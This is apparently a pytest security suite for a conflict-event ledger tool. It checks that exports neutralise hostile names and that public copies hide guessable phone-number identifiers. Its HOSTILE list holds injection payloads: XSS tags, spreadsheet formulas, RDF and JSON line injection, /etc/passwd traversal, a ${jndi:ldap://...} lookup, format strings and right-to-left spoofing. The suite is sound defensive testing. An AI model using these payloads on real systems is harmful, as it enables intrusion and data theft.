"""What an attacker would try: names that are code, lines, addresses or paths, and ids that can be guessed."""

from __future__ import annotations

import csv
import json
import warnings
from io import StringIO
from pathlib import Path

import pytest

from dateline.cli import main
from dateline.ids import claim_id, content_id, text_sha256
from dateline.ledger import Entry, Ledger
from dateline.mentions import Document
from dateline.model import ActorRef, Attribution, Claim, SourceRef
from dateline.products.exporter import exporter_of, exporters
from product_rows import RSF, SINGA, actor, figure, made, told

#: Of each kind of reader one name that it might obey.
HOSTILE = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', '=HYPERLINK("https://x.example","a")',
    "\t@SUM(1)", "x> . <urn:evil> <urn:evil> <urn:evil", 'urn:evil" ; <urn:evil> "x', 'a\u2028{"id": "evil"}',
    "b\x85c\u2029d", "../../etc/passwd", "\u202e\u2066gnp.exe", '\\"}\n{"id": "evil"}', "${jndi:ldap://x.example}",
    "%n%s{0}", "n" * 10_000,
)  # fmt: skip
PHONE = "+249912345678"


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every name hostile in turn: of documents, titles, addresses, publishers, actors, places, speakers."""
    path = tmp_path_factory.mktemp("hostile") / "war.ledger"
    with Ledger(path, create=True) as opened:
        for n, name in enumerate(HOSTILE):
            text = f"Report {n}: {name} shelled Singa and killed 3."
            speaker = SourceRef(role="speaker", name=name, text=name, group=name)
            body = SourceRef(role="organisation", id=f"local:{name}", name=name, group=name)
            hit = {
                "event_type": "shelling_missile", "day": f"2024-06-{n + 1:02}",
                "attribution": Attribution(kind="direct_quote", sources=(speaker, body)),
                "place": {**SINGA, "id": f"x:{name}", "name": name},
                "actors": (actor(RSF, "attacker"), ActorRef(role="victim", id=f"local:{name}", name=name)),
            }  # fmt: skip
            opened.append(told(
                name, text, made(name, text, "shelled Singa", **hit),
                made(name, text, "killed 3", type="figure", figure=figure("killed", 3, 3, 3, raw=name), **hit),
                title=name, source=name, url=f"javascript:{name}",
            ))  # fmt: skip
    return path


def run(*line: str) -> int:
    with pytest.raises(SystemExit) as ending:
        main(list(line))
    assert isinstance(ending.value.code, int)
    return ending.value.code


@pytest.fixture(params=exporters())
def product(request: pytest.FixtureRequest, ledger: Path, tmp_path: Path) -> tuple[str, Path]:
    out = tmp_path / "out" / "product"
    out.parent.mkdir()
    assert run("export", request.param, "--ledger", str(ledger), "--out", str(out)) == 0
    return request.param, out


def test_every_reader_takes_names_for_names(product: tuple[str, Path]) -> None:
    name, out = product
    assert [p.name for p in out.parent.iterdir()] == ["product"]
    files = [out] if out.is_file() else sorted(p for p in out.rglob("*") if p.is_file())
    assert all(p.relative_to(out.parent).as_posix().replace("/", "").replace("_", "").replace(".", "").isalnum()
               for p in files)  # fmt: skip
    for path in files:
        suffix = exporter_of(name).suffix if path == out else path.suffix
        if suffix == ".jsonl":
            rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
            assert all(row.get("id") != "evil" for row in rows)
        elif suffix in (".json", ".geojson", ".jsonld"):
            json.loads(path.read_text(encoding="utf-8"))
        elif suffix == ".csv":
            cells_are_inert(path)


def cells_are_inert(path: Path) -> None:
    """In a spreadsheet no cell is a formula, a command or of the wrong row."""
    from openpyxl import Workbook

    rows = list(csv.reader(StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert len({len(row) for row in rows}) == 1
    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert [
        c.value for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "@", "\t", "\r", "|"))
    ] == []
    assert not {"\u202e", "\u2066", "\x85", "\u2028"} & set("".join(str(c.value) for c in cells))


def test_no_name_becomes_a_statement_in_turtle(ledger: Path, tmp_path: Path) -> None:
    assert run("export", "prov", "--ledger", str(ledger), "--out", str(tmp_path / "p.jsonld")) == 0
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from rdflib import Graph, URIRef
        from rdflib.compare import isomorphic

        graph = Graph().parse(data=(tmp_path / "p.jsonld").read_text(), format="json-ld")
        for format in ("turtle", "nt", "xml"):
            again = Graph().parse(data=graph.serialize(format=format), format=format)
            assert len(again) == len(graph)
        assert isomorphic(graph, Graph().parse(data=graph.serialize(format="nt"), format="nt"))
    evil = URIRef("urn:evil")
    assert evil not in set(graph.subjects()) | set(graph.predicates()) | set(graph.objects())
    assert {s.split(":")[1] for s in graph.subjects()} == {"dateline"}


def test_nothing_of_it_is_in_a_public_copy(ledger: Path, tmp_path: Path) -> None:
    for n, name in enumerate((*exporters(), "report")):
        out = tmp_path / str(n)
        line = ["export", name] if name != "report" else ["report"]
        assert run(*line, "--ledger", str(ledger), "--public", "--out", str(out)) == 0
        files = [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]
        text = "\n".join(p.read_bytes().decode("utf-8", "replace") for p in files)
        for bad in ("evil", "alert(1)", "jndi", "passwd", "HYPERLINK", "nnnnnnnnnn", "javascript:", "\u202e"):
            assert bad not in text, (name, bad)


def guesses(number: str, text: str, claim: Claim) -> set[str]:
    """What somebody who has the whole text can compute from a guess of its document's id."""
    ids = {content_id("public", number, more) for more in (None, "", text_sha256(text))} | {content_id(number)}
    ids |= {claim_id(number, text_sha256(text), "event", claim.start, claim.end, (n,)) for n in range(len(text))}
    return {i.removeprefix("cl_") for i in {*ids, claim.id}} | {text_sha256(text), number}


def test_an_id_that_can_be_guessed_cannot_be_tried(tmp_path: Path) -> None:
    """Telephone numbers are few: whoever has the text and can compute a hash over a number can try them all."""
    path, text = tmp_path / "w.ledger", "Fighting in Singa."
    claim = made(PHONE, text, "Fighting in Singa", event_type="armed_clash", place=SINGA, day="2024-06-24")
    with Ledger(path, create=True) as opened:
        opened.append(told(PHONE, text, claim))
        opened.append(Entry(document=Document(id=f"tel:{PHONE}", text=""), set_aside="cannot be read"))
    for n, name in enumerate((*exporters(), "report")):
        out = tmp_path / str(n)
        line = ["export", name] if name != "report" else ["report"]
        assert run(*line, "--ledger", str(path), "--public", "--out", str(out)) == 0
        files = [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]
        everything = b"".join(p.read_bytes() for p in files)
        assert [t for t in guesses(PHONE, text, claim) if t.encode() in everything] == [], name


def test_the_ids_of_a_public_copy_hold_together_and_lead_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, text = tmp_path / "w.ledger", "Fighting in Singa."
    claim = made(PHONE, text, "Fighting in Singa", event_type="armed_clash", place=SINGA, day="2024-06-24")
    with Ledger(path, create=True) as opened:
        opened.append(told(PHONE, text, claim))
    for name in ("one", "two"):
        line = ["export", "datapackage", "--public", "--ledger", str(path), "--out", str(tmp_path / name)]
        assert run(*line) == 0
    tables = {p.name: p.read_text() for p in (tmp_path / "one" / "data").iterdir()}
    assert tables == {p.name: p.read_text() for p in (tmp_path / "two" / "data").iterdir()}
    rows = {name.removesuffix(".csv"): list(csv.DictReader(StringIO(raw))) for name, raw in tables.items()}
    (document,), (known,), (event,) = rows["documents"], rows["claims"], rows["events"]
    assert known["document_id"] == document["document_id"]
    assert known["claim_id"] in tables["event_claims.csv"]
    capsys.readouterr()
    assert run("explain", event["event_id"], "--ledger", str(path), "--format", "json") == 0
    assert json.loads(capsys.readouterr().out)["id"] != event["event_id"]
    assert run("explain", known["claim_id"], "--ledger", str(path)) == 0
    assert text.rstrip(".") in capsys.readouterr().out


def test_a_telephone_number_is_no_count_in_a_public_copy(tmp_path: Path) -> None:
    path, text = tmp_path / "w.ledger", "Shelling of Singa killed 912345678."
    with Ledger(path, create=True) as opened:
        hit = {"event_type": "shelling_missile", "place": SINGA, "day": "2024-06-24"}
        count = figure("killed", 912345678, 912345678, 912345678)
        opened.append(told("a", text, made("a", text, "Shelling of Singa", **hit),
                           made("a", text, "killed 912345678", type="figure", figure=count, **hit)))  # fmt: skip
    for n, name in enumerate(exporters()):
        out = tmp_path / str(n)
        assert run("export", name, "--ledger", str(path), "--public", "--out", str(out)) == 0
        for file in [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]:
            assert b"912345678" not in file.read_bytes(), name


def test_of_a_long_count_three_figures_leave(tmp_path: Path) -> None:
    path, text = tmp_path / "w.ledger", "Shelling of Singa killed 12345678 and injured 12345."
    with Ledger(path, create=True) as opened:
        hit = {"event_type": "shelling_missile", "place": SINGA, "day": "2024-06-24"}
        rows = [made("a", text, f"{m} {n}", type="figure", figure=figure(m, n, n, n), **hit)
                for m, n in (("killed", 12345678), ("injured", 12345))]  # fmt: skip
        opened.append(told("a", text, made("a", text, "Shelling of Singa", **hit), *rows))
    assert run("export", "datapackage", "--ledger", str(path), "--public", "--out", str(tmp_path / "out")) == 0
    read = csv.DictReader(StringIO((tmp_path / "out" / "data" / "figures.csv").read_text()))
    assert {row["measure"]: row["best"] for row in read} == {"killed": "12300000", "injured": "12345"}


@pytest.mark.parametrize("name", ["../up", "/etc/x", "abc\n", "a b", "", "con/../x", "\u202eabc", "a" * 200])
def test_a_snapshot_is_called_no_path(name: str, ledger: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    assert run("snapshot", name, "--ledger", str(ledger)) == 2
    assert [p.name for p in tmp_path.rglob("*")] == ["here"]


@pytest.mark.parametrize("line", ["export parquet --out .", "export events --out no/such.jsonl", "report --out ..",
                                  "report --out no/such.html", "export datapackage --out file/x"])  # fmt: skip
def test_a_place_that_cannot_be_written_is_said(
    line: str, ledger: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file").write_text("")
    assert run(*line.split(), "--ledger", str(ledger)) == 2
    assert "internal error" not in capsys.readouterr().err
    assert [p.name for p in tmp_path.rglob("*")] == ["file"]


def test_what_others_left_half_done_is_not_touched(ledger: Path, tmp_path: Path) -> None:
    (tmp_path / ".out.part").mkdir()
    (tmp_path / ".out.part" / "mine").write_text("mine")
    assert run("export", "parquet", "--ledger", str(ledger), "--out", str(tmp_path / "out")) == 0
    assert (tmp_path / ".out.part" / "mine").read_text() == "mine"
